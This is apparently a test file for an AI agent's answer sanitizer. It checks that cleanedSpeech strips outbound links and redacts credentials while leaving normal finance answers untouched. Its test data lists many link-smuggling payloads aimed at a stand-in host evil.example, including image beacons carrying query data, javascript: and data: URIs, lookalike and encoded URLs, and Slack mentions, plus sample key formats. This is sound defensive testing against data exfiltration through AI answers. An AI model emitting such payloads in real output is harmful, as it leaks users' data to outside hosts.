import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { cleanedLine, cleanedSpeech } from "#src/agent/speech.ts";
import { WAYS_OUT } from "./ways-out.ts";

const HOST = "evil.example";

/** What looks like a way out to one of the programs that show answers; each must lead nowhere. */
const LINKS: readonly string[] = [
  "[here](https://evil.example)",
  '[here](https://evil.example "a title")',
  "[here](https://evil.example 'a title')",
  "[here](https://evil.example (a title))",
  "[here](<https://evil.example/a b>)",
  "[here](  https://evil.example  )",
  "[here](\nhttps://evil.example\n)",
  "[here](https://evil.example/a_(b))",
  "[he[re]](https://evil.example)",
  "[he\nre](https://evil.example/x)",
  "[a](https://evil.example)[b](https://evil.example)",
  "[![pic](https://evil.example/p.png)](https://evil.example)",
  "![pic](https://evil.example/p.png?d=123)",
  '![pic](https://evil.example/p.png "t")',
  "![pic][1]\n\n[1]: https://evil.example/p.png",
  "[text][ref]\n\n[ref]: https://evil.example",
  "[text][ref]\n\n[ref]:\n  https://evil.example",
  "[text][ref]\n\n> [ref]: https://evil.example",
  "[ref]\n\n   [ref]: <https://evil.example> 'title'",
  "<https://evil.example>",
  "<HTTPS://EVIL.EXAMPLE/x>",
  "<mailto:thief@evil.example>",
  "https://evil.example/?q=105159.24",
  "http://evil.example",
  "HTTPS://evil.example/x",
  "hTtPs://EVIL.example/x",
  "ftp://evil.example/x",
  "ws://evil.example",
  "see evil.example/path",
  "see evil.example/?d=1",
  "see EVIL.EXAMPLE/path",
  "see evil.example:8443/x",
  "see evil.example:8443",
  "see www.evil.example",
  "see //evil.example/x",
  "see 203.0.113.7/x",
  "see http://203.0.113.7:8080/x",
  "see localhost:3000/x",
  "http://0x7f000001/",
  "http://[2001:db8::1]/x",
  "see evil\u3002example/path",
  "see evil\uff0eexample/path",
  "see xn--evil-9ma.example/x",
  "see https://xn--80ak6aa92e.com/",
  "see \u0435vil.example/x",
  "[here](javascript:alert(1))",
  "[here](JaVaScRiPt:alert(1))",
  "[here](java\nscript:alert(1))",
  "javascript:alert(1)",
  "vbscript:msgbox(1)",
  "[here](data:text/html;base64,PHNjcmlwdD4=)",
  "data:text/html,<b>x</b>",
  "https://docs.aws.amazon.com@evil.example/",
  "https://docs.aws.amazon.com:pw@evil.example/",
  "https://docs.aws.amazon.com\\@evil.example/",
  "[here](https://docs.aws.amazon.com\\@evil.example/)",
  "https://docs.aws.amazon.com.evil.example/",
  "https://docs.aws.amazon.com/x?d=secret",
  "[here](https://aws.amazon.com/?d=secret)",
  "https://aws.amazon.com#d=https://evil.example",
  "http://docs.aws.amazon.com/x",
  "https://docs.aws.amazon.com:8443/x",
  "https://repost.aws/questions/anybody-writes-here",
  "[here](https:\\\\evil.example\\x)",
  "https:/evil.example/x",
  "[here](https:evil.example)",
  "https\\://evil.example/x",
  "[here](https\\://evil\\.example)",
  "[here](&#104;ttps://evil.example)",
  "&#x68;ttps&colon;&sol;&sol;evil&period;example/x",
  "&amp;#104;ttps://evil.example",
  "[here](https&#58;//evil.example)",
  "https%3A%2F%2Fevil.example%2Fx",
  "[here](https%3A%2F%2Fevil.example)",
  "https%253A%252F%252Fevil.example%252Fx",
  "[here](ht\ttps://evil.example)",
  "ht\u200btps://evil.example/x",
  "https://ev\u00adil.example/x",
  "[here]\u200b(https://evil.example)",
  "\u{e0068}[here](https://evil.example)",
  "[here](https://evil.example\u202e)",
  "slack://user?team=T1&id=U1",
  "mailto:thief@evil.example?body=figures",
  "write to thief@evil.example",
  "write to thief+x@mail.evil.example now",
  "tel:+4915112345678",
  "<https://evil.example|your invoice>",
  "<https://evil.example/x?d=1|https://docs.aws.amazon.com>",
  "<https://docs.aws.amazon.com/x|https://evil.example>",
  "[https://evil.example](https://docs.aws.amazon.com/x)",
  "[evil.example](https://docs.aws.amazon.com/x)",
  "<mailto:thief@evil.example|pay here>",
  "<slack://open|open>",
  "<!channel> pay",
  "<!here>",
  "<!everyone|all>",
  "<!subteam^S0123|@billing>",
  "<@U01234567>",
  "<@U01234567|boss>",
  "<#C01234567|general>",
  "<!date^1700000000^{date}^https://evil.example|now>",
  '<a href="https://evil.example">x</a>',
  "<a href=//evil.example/x>x</a>",
  "<img src=https://evil.example/p.png>",
  "`https://evil.example/x`",
  "```\nhttps://evil.example/x\n```",
  "[a]([b](https://evil.example))",
  "[[a](https://evil.example)](https://evil.example)",
  "[here](vscode://evil.example/x)",
  "ms-word:ofe|u|https://evil.example/x.docx",
];

describe("C-05 no link out of an answer", () => {
  it.each(LINKS)("C-05 %j leads nowhere", (text) => {
    for (const around of [
      text,
      `Before ${text} after`,
      `| ${text.replace(/\n/g, " ")} | 5 |`,
      `**${text}**`,
      `- ${text}`,
    ]) {
      const shown = cleanedSpeech(around);
      for (const way of WAYS_OUT) expect([around, shown]).toEqual([around, expect.not.stringMatching(way)]);
      // A host alone may be named, as code.
      expect(shown.replace(/`[^`\n]+`/g, "")).not.toContain(HOST);
    }
  });

  it("C-05 there are sixty and more of them", () => expect(LINKS.length).toBeGreaterThan(60));

  it("C-05 whatever is put around and between", () => {
    const piece = fc.oneof(
      fc.constantFrom(...LINKS, "](", "[", "](https://", "evil.example/", "<", "|x>", "\\", "`", "&#104;", "\n", " "),
      fc.string({ unit: "grapheme", maxLength: 8 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 6 }), (pieces) => {
        const shown = cleanedSpeech(pieces.join(""));
        for (const way of WAYS_OUT) expect(shown).not.toMatch(way);
        expect(cleanedSpeech(shown)).toBe(shown);
      }),
      { numRuns: 2_000 },
    );
  });
});

/** Words of a good answer, which stay as they are. */
const GOOD: readonly string[] = [
  "Acme's margin was **17,999.65 USD** in 2026-10, 17.12 % on cost.",
  "| Client | Margin |\n| --- | ---: |\n| Acme Robotics | -3,539.78 |\n| AT&T | 5 |",
  "1. one\n2. two\n   - three\n- [ ] four\n- [x] five",
  "> quoted\n\n# Heading\n\n_slanted_ ~~gone~~ `code` ***both***",
  "```\nmargin acme 2026-10 --by service\n```",
  "m5.large, db.r6g.xlarge, cache.m6g.large.search and c6i.2xlarge",
  "ec2.amazonaws.com and s3.eu-west-1.amazonaws.com",
  "AWS Support (Business), Amazon Elastic Compute Cloud - Compute, EC2 - Other",
  "USD 1,234.56 (+3.2 %), -$5.00, 1.5k, 10:30, 2026-10-01T10:00:00Z",
  "<script>Logistics has a gap of 5 < 7 > 3",
  "arn:aws:billingconductor::111122223333:billinggroup/wm65jrwa",
  "[how it works](https://docs.aws.amazon.com/billingconductor/latest/userguide/what-is.html)",
  "https://docs.aws.amazon.com/cur/latest/userguide/what-is-cur.html.",
  "e.g. this, i.e. that, U.S. dollars, vs. the month before, No. 5, a.m.",
  "data: 3 clients; note: the file: none; total:5",
  "and/or, EC2/RDS, n/a, 24/7, BoxUsage:m6i.xlarge, Fargate-vCPU-Hours:perCPU",
  "[1] and [2]: two things; f(x) [a] (b)",
  "Is 5 % of 10 enough? 100%ig; 20%2",
  "Zo\u00eb \u2013 \u201cquoted\u201d \u{1f600} \u{1f468}\u200d\u{1f469}\u200d\u{1f467} \u2705\ufe0f",
  "\u05d0\u05d1\u05d2 and \u4e2d\u6587 and \u0440\u0443\u0441",
  "digest 513a19ac9dfe595e5c07e297f0bf7cbf8a14e04a52e78abd1110c0e3eb1b0000",
  "me@ home, 5 @ 3, @olivia",
  "reckoner.yaml, costs.csv",
];

describe("C-05 a good answer stays as it is", () => {
  it.each(GOOD)("C-05 %j", (text) => {
    expect(cleanedSpeech(text)).toBe(text);
  });

  it.each([
    ["<!channel> Logistics has a gap", "!channel Logistics has a gap"],
    ["<https://aws.amazon.com/premiumsupport/pricing/>", "https://aws.amazon.com/premiumsupport/pricing/"],
    ["<https://docs.aws.amazon.com/x|the guide>", "[the guide](https://docs.aws.amazon.com/x)"],
    ["Booking.com pays more", "`Booking.com` pays more"],
    ["see [here](https://evil.example) now", "see here now"],
    ["at https://evil.example/x, and so on", "at (link left out), and so on"],
    ["\u27e6Acme Robotics\u27e7 is fine", "Acme Robotics is fine"],
    ["one\n\n\n\n\ntwo", "one\n\ntwo"],
  ])("C-05 %j becomes %j", (text, expected) => expect(cleanedSpeech(text)).toBe(expected));
});

describe("C-05 no key in an answer", () => {
  const secrets = [
    `${"AKIA"}IOSFODNN7EXAMPLE`,
    `${"ASIA"}Y34FZKBOKMUTVV7A`,
    `wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY`,
    `${"xoxb"}-123456789012-abcdefABCDEF`,
    `${"xapp"}-1-A0123456789-abcdef0123`,
    `rkn_${"Ab3-".repeat(6)}`,
    `${"sk_live"}_51Habcdefghijk`,
    `${"whsec"}_abcdefgh12345678`,
    `eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl`,
    `SLACK_BOT_TOKEN=abcd1234`,
    `db password: hunter2!`,
    `FwoGZXIvYXdzE${"Ab1/".repeat(30)}`,
    `-----BEGIN RSA PRIVATE KEY-----\nMIIEow\n-----END RSA PRIVATE KEY-----`,
  ];
  it.each(secrets)("C-05 %j", (secret) => {
    const shown = cleanedSpeech(`The key is ${secret} and so on`);
    expect(shown).toContain("(key left out)");
    expect(shown).not.toContain(secret.slice(-8));
  });
});

describe("C-05 an answer has a size", () => {
  it("C-05 and a step one line", () => {
    expect(cleanedSpeech("word ".repeat(10_000)).length).toBeLessThanOrEqual(11_000);
    const line = cleanedLine(`margin "a\nb" https://evil.example/ ${"x".repeat(1_000)}`);
    expect(line.length).toBeLessThanOrEqual(300);
    expect(line).toMatch(/^margin "a b" \(link left out\) x+\u2026$/);
  });
});
